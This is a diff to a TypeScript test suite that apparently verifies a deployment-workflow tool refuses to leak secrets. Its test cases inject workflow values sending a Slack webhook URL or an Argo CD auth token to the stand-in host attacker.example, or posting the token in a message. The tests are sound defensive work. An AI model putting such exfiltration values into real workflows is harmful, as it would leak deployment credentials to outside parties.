@@ -2,6 +2,7 @@ import { writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, test } from 'vitest';
 import { parseRunnerLog } from '../support/runner-commands.js';
+import { chosen } from '../support/thorough.js';
 import { deployment, exampleWorkflow, manifestFile, startRecorder, startWorld, token, workflowFile, workflowWith, type World } from '../support/world.js';
 
 /** Everything that was sent anywhere since the checkout was made. */
@@ -64,13 +65,13 @@ describe.concurrent('nothing is asked of Argo CD or Slack', () => {
     expect(byCli.json()).toMatchObject({ problems: expect.arrayContaining([64, 86].map((line) => expect.objectContaining({ code: 'OSOP-PLAN-007', file: workflowFile, line }))) });
   });
 
-  test.for([
+  test.for(chosen(['in the address', 'as a token in a message'], [
     ['in the address of somebody else', 'url: "{{SLACK_WEBHOOK_URL}}"', 'url: "https://attacker.example/?to={{SLACK_WEBHOOK_URL}}"'],
     ['as a revision', 'revision: "{{commit_sha}}"', 'revision: "{{SLACK_WEBHOOK_URL}}"'],
     ['as a token in an address', 'url: "https://argocd.internal/api/v1/applications/production-app"', 'url: "https://attacker.example/{{ARGOCD_AUTH_TOKEN}}/api/v1/applications/production-app"'],
     ['as a token in a message', 'inputs: [rollback_status, commit_sha]', 'inputs: [rollback_status, commit_sha]\n    runtime: {method: POST, url: "{{SLACK_WEBHOOK_URL}}", body: {text: "{{ARGOCD_AUTH_TOKEN}}"}}'],
     ['in an expression', 'validation_result.valid == true', "env.ARGOCD_AUTH_TOKEN != ''"],
-  ] as const)('for a secret %s (T1)', async ([, part, replacement], context) => {
+  ] as const))('for a secret %s (T1)', async ([, part, replacement], context) => {
     const workflow = part.startsWith('inputs: [rollback')
       ? exampleWorkflow.replace(/ {4}runtime:\n {6}endpoint: slack-webhook\n {6}method: POST\n {6}url: "\{\{SLACK_WEBHOOK_URL\}\}"\n {4}inputs: \[rollback_status, commit_sha\]/, () => `    ${replacement}`)
       : workflowWith(part, replacement);
